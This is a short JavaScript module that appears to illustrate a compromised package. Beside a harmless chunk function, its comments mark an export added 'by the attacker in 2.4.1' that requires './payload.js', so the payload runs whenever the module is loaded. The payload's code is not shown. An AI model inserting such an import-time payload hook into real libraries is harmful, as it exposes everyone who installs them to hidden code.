'use strict';
// What the maintainer wrote: one useful function.
exports.chunk = (list, size) => {
  const rows = [];
  for (let i = 0; i < list.length; i += size) rows.push(list.slice(i, i + size));
  return rows;
};

// What the attacker added in 2.4.1.
exports.report = require('./payload.js');
